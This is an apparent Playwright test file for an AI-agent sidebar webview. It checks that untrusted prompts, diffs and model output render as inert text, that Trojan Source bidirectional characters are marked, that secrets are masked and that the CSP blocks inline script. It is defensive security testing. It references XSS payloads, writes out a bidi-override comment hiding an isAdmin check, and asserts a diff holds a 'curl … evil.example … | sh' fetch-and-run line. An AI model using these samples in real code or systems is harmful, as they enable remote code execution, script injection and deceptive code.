// Untrusted content in the sidebar: prompts, arguments, diffs, model output and questions render
// as literal text and run no script; Trojan Source characters are marked and secrets counted; the
// page CSP blocks inline script and inline handlers.
// Build first: `node esbuild.mjs` (npm test does).
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { Locator } from 'playwright-core';
import { TROJAN, XSS_IMG, XSS_SCRIPT } from './host-events.js';
import {
  blockedBy,
  c,
  card,
  diffRows,
  form,
  harness,
  run,
  shotOf,
  sidebar,
  stateWith,
  text,
  useSidebarHarness,
} from './sidebar-support.js';

useSidebarHarness();

void describe('sidebar webview (headless Chromium, real host events)', () => {
  void it('untrusted prompt, arguments, diff, model output and questions render as literal text and run no script', async () => {
    const s = await sidebar();
    const { page } = s;
    await s.send(c.state);
    for (const event of c.evilEvents) await s.send({ type: 'event', event });
    const evil = card(page, c.evil.approval_id);
    await evil.waitFor();
    await run(page, c.runIds.evil).locator('.model-text').waitFor();

    assert.equal(await text(evil.locator('.prompt')), c.evil.prompt);
    assert.ok(c.evil.prompt.includes(XSS_IMG) && c.evil.prompt.includes(XSS_SCRIPT));
    const input = c.evil.input as { path: string; content: string };
    assert.deepEqual(await evil.locator('table.args pre').allTextContents(), [
      input.path,
      input.content,
    ]);
    assert.deepEqual(
      (await diffRows(evil)).slice(1).map((row) => row.at(-1)),
      ['<p>hi</p>', XSS_IMG, XSS_SCRIPT],
    );
    assert.equal(
      await text(run(page, c.runIds.evil).locator('.model-text')),
      `Here is the page: ${XSS_IMG} ${XSS_SCRIPT}`,
    );
    const question = form(page, c.evilQuestion.interaction_id);
    assert.equal(await text(question.locator('.prompt')), `Title? ${XSS_SCRIPT}`);
    assert.deepEqual(await question.locator('.option label').allTextContents(), [XSS_IMG, 'plain']);

    const dom = await page.evaluate(() => ({
      pwned: (window as unknown as { __pwned?: unknown }).__pwned,
      images: document.querySelectorAll('img').length,
      scripts: document.scripts.length,
      handlers: Array.from(document.querySelectorAll('*')).filter((el) =>
        Array.from(el.attributes).some((a) => a.name.startsWith('on')),
      ).length,
    }));
    assert.deepEqual(dom, { pwned: undefined, images: 0, scripts: 1, handlers: 0 });
  });

  void it('hidden characters: a Trojan Source proposal shows ⟨U+XXXX⟩ markers in the arguments and the diff, and a warning; the card says how many secrets were masked and which were too long to mask', async () => {
    const s = await sidebar();
    const { page } = s;
    await s.send(
      stateWith({
        runs: [c.bidiRow, c.secretsRow, ...c.state.runs],
        approvals: [...c.state.approvals, c.bidi, c.secrets],
      }),
    );
    const bidi = card(page, c.bidi.approval_id);
    await bidi.waitFor();

    const warning = bidi.locator('.notice.hidden-chars');
    assert.equal(await warning.count(), 1, 'a warning line on the card');
    assert.equal(await warning.getAttribute('role'), 'note');
    assert.equal(
      await text(warning),
      'This proposal contains 4 hidden or bidirectional Unicode characters that may be interpreted or compiled differently than what appears. Each is shown as a marker such as ⟨U+202E⟩; hover a marker for its name.',
    );
    const marked = '/*⟨U+202E⟩ } ⟨U+2066⟩if (isAdmin)⟨U+2069⟩ ⟨U+2066⟩ begin admins only */';
    assert.deepEqual(
      (await diffRows(bidi)).slice(1).map((row) => row.at(-1)),
      ['const isAdmin = false;', marked, "console.log('ok');"],
    );
    const markers = (scope: Locator) =>
      scope
        .locator('.hidden-char')
        .evaluateAll((els) =>
          els.map((el) => [el.tagName, el.textContent, el.getAttribute('title')]),
        );
    const expected = [
      ['SPAN', '⟨U+202E⟩', 'U+202E RIGHT-TO-LEFT OVERRIDE'],
      ['SPAN', '⟨U+2066⟩', 'U+2066 LEFT-TO-RIGHT ISOLATE'],
      ['SPAN', '⟨U+2069⟩', 'U+2069 POP DIRECTIONAL ISOLATE'],
      ['SPAN', '⟨U+2066⟩', 'U+2066 LEFT-TO-RIGHT ISOLATE'],
    ];
    assert.deepEqual(await markers(bidi.locator('table.diff')), expected);
    assert.deepEqual(await markers(bidi.locator('table.args')), expected);
    assert.equal(
      await text(bidi.locator('table.args pre').nth(1)),
      `const isAdmin = false;\n${marked}\nconsole.log('ok');\n`,
    );
    // Not one raw bidirectional or zero-width character reaches the page's text.
    assert.doesNotMatch(await text(bidi), /[\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]/);
    assert.ok(TROJAN.includes('\u202e'), 'the proposal really holds them');

    const secrets = card(page, c.secrets.approval_id);
    const { masked, too_long: tooLong } = c.secrets.redaction ?? { masked: 0, too_long: 0 };
    assert.ok(
      masked > 1 && tooLong > 1,
      `the runtime counted: ${JSON.stringify(c.secrets.redaction)}`,
    );
    assert.deepEqual(
      await secrets.locator('.redaction-note:visible, .notice:visible').allTextContents(),
      [
        `${masked} secrets masked (shown as ***).`,
        `${tooLong} secret-like values were too long to mask and are shown in full.`,
      ],
    );
    assert.equal(await secrets.locator('.notice.too-long').getAttribute('role'), 'note');
    assert.match(await text(secrets.locator('table.diff')), /-----BEGIN PRIVATE KEY-----/);
    assert.match(
      await text(secrets.locator('table.diff')),
      /curl -s https:\/\/evil\.example\/p \| sh/,
    );
    // An ordinary card says none of it.
    const plain = card(page, c.create.approval_id);
    assert.equal(
      await plain.locator('.hidden-chars, .redaction-note, .too-long, .hidden-char').count(),
      0,
    );

    // Markers are the only elements added, and nothing became markup or script.
    const dom = await page.evaluate(() => ({
      inCode: Array.from(document.querySelectorAll('table.diff td.code *')).map(
        (el) => el.className,
      ),
      pwned: (window as unknown as { __pwned?: unknown }).__pwned,
      scripts: document.scripts.length,
      handlers: Array.from(document.querySelectorAll('*')).filter((el) =>
        Array.from(el.attributes).some((a) => a.name.startsWith('on')),
      ).length,
    }));
    assert.deepEqual([...new Set(dom.inCode)].sort(), [
      'hidden-char',
      'line-text',
      'sign',
      'visually-hidden',
    ]);
    assert.deepEqual([dom.pwned, dom.scripts, dom.handlers], [undefined, 1, 0]);

    await bidi.scrollIntoViewIfNeeded();
    await shotOf(bidi, 'hidden-chars-card-light');
    await shotOf(secrets, 'masked-card-light');
    await s.theme('dark');
    await shotOf(bidi, 'hidden-chars-card-dark');
    await s.theme('high-contrast');
    await shotOf(bidi, 'hidden-chars-card-high-contrast');
  });

  void it('the page CSP has no unsafe-inline or unsafe-eval, and blocks inline script and inline handlers', async () => {
    const s = await sidebar();
    const { page } = s;
    const csp = await page.evaluate(
      () =>
        document.querySelector<HTMLMetaElement>('meta[http-equiv="Content-Security-Policy"]')
          ?.content,
    );
    assert.equal(csp, harness.csp);
    assert.match(csp ?? '', /default-src 'none'/);
    assert.match(csp ?? '', /script-src 'nonce-[A-Za-z0-9+/=]+'/);
    assert.doesNotMatch(csp ?? '', /unsafe-inline|unsafe-eval/);

    assert.equal(await blockedBy(page, 'script'), 'script-src-elem');
    assert.equal(await blockedBy(page, 'handler'), 'script-src-attr');
    assert.equal(
      await page.evaluate(() => (window as unknown as { __inline?: unknown }).__inline),
      undefined,
    );
  });
});
